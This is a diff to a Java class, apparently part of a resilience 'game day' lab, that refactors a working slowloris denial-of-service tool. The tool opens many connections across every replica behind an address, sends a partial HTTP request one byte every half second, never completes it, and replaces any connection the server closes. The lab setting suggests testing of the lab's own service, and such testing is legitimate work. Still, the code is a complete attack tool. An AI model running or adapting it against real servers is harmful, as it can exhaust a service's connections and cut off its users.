@@ -2,43 +2,40 @@ package dev.breakwater.lab.gameday.target;
 
 import static java.nio.charset.StandardCharsets.US_ASCII;
 
+import dev.breakwater.lab.launcher.ReplicaAddresses;
+
 import java.io.IOException;
-import java.net.InetAddress;
 import java.net.InetSocketAddress;
 import java.net.Socket;
 import java.net.URI;
-import java.net.UnknownHostException;
 import java.time.Duration;
+import java.util.List;
 import java.util.concurrent.ExecutorService;
 import java.util.concurrent.Executors;
 import java.util.concurrent.atomic.AtomicInteger;
 
 /**
- * So many connections at a time that send a request byte by byte and never end it; one that is
- * closed is opened again. They are spread over every machine that the address stands for.
+ * A slowloris attack: connections that send a request byte by byte and never complete it. A closed
+ * connection is replaced. They are spread over every replica that the address stands for.
  */
 public final class SlowClients {
 
-    private static final Duration BETWEEN_BYTES = Duration.ofMillis(500);
-    private static final int CONNECT_MILLIS = 2000;
-    private static final String REQUEST =
-            "GET /orders?userId=slow HTTP/1.1\r\nHost: slow\r\nX-Slow: ";
+    private static final Duration BYTE_INTERVAL = Duration.ofMillis(500);
+    private static final int CONNECT_TIMEOUT_MILLIS = 2000;
+    private static final byte[] REQUEST =
+            "GET /orders?userId=slow HTTP/1.1\r\nHost: slow\r\nX-Slow: ".getBytes(US_ASCII);
 
-    private final InetAddress[] hosts;
-    private final int port;
     private final long end;
     private final AtomicInteger opened = new AtomicInteger();
 
-    private SlowClients(InetAddress[] hosts, int port, Duration time) {
-        this.hosts = hosts;
-        this.port = port;
+    private SlowClients(Duration time) {
         this.end = System.nanoTime() + time.toNanos();
     }
 
-    /** ADDRESS CONNECTIONS SECONDS: for whoever reaches the address only from inside a network. */
-    public static void main(String[] arguments) throws UnknownHostException {
+    /** Arguments: ADDRESS CONNECTIONS SECONDS. For a container in the network of the address. */
+    public static void main(String[] arguments) {
         int opened =
-                attack(
+                run(
                         URI.create(arguments[0]),
                         Integer.parseInt(arguments[1]),
                         Duration.ofSeconds(Long.parseLong(arguments[2])));
@@ -46,48 +43,49 @@ public final class SlowClients {
     }
 
     /**
-     * Returns when the time is over.
+     * Runs for this time.
      *
+     * @param connections how many are open at a time
      * @return how many connections were opened
      */
-    public static int attack(URI address, int connections, Duration time) throws UnknownHostException {
-        SlowClients clients =
-                new SlowClients(
-                        InetAddress.getAllByName(address.getHost()), address.getPort(), time);
+    public static int run(URI address, int connections, Duration time) {
+        SlowClients clients = new SlowClients(time);
+        List<URI> replicas = ReplicaAddresses.resolve(address).toList();
         try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
             for (int i = 0; i < connections; i++) {
-                InetAddress host = clients.hosts[i % clients.hosts.length];
-                threads.execute(() -> clients.drip(host));
+                URI replica = replicas.get(i % replicas.size());
+                threads.execute(() -> clients.keepConnected(replica));
             }
         }
         return clients.opened.get();
     }
 
-    private void drip(InetAddress host) {
+    private void keepConnected(URI replica) {
         try {
             while (!isOver()) {
-                dripOnce(host);
-                Thread.sleep(
-                        BETWEEN_BYTES); // one that is refused is no faster than one that is served
+                sendSlowly(replica);
+                Thread.sleep(BYTE_INTERVAL); // a refused connection is not retried faster
             }
         } catch (InterruptedException e) {
             Thread.currentThread().interrupt();
         }
     }
 
-    private void dripOnce(InetAddress host) throws InterruptedException {
+    private void sendSlowly(URI replica) throws InterruptedException {
         try (Socket socket = new Socket()) {
-            socket.connect(new InetSocketAddress(host, port), CONNECT_MILLIS);
+            socket.connect(
+                    new InetSocketAddress(replica.getHost(), replica.getPort()),
+                    CONNECT_TIMEOUT_MILLIS);
             opened.incrementAndGet();
-            for (byte each : REQUEST.getBytes(US_ASCII)) {
+            for (byte each : REQUEST) {
                 socket.getOutputStream().write(each);
-                Thread.sleep(BETWEEN_BYTES);
+                Thread.sleep(BYTE_INTERVAL);
                 if (isOver()) {
                     return;
                 }
             }
         } catch (IOException closed) {
-            // the server is done with it; another one follows
+            // by the server: the next connection follows
         }
     }
 
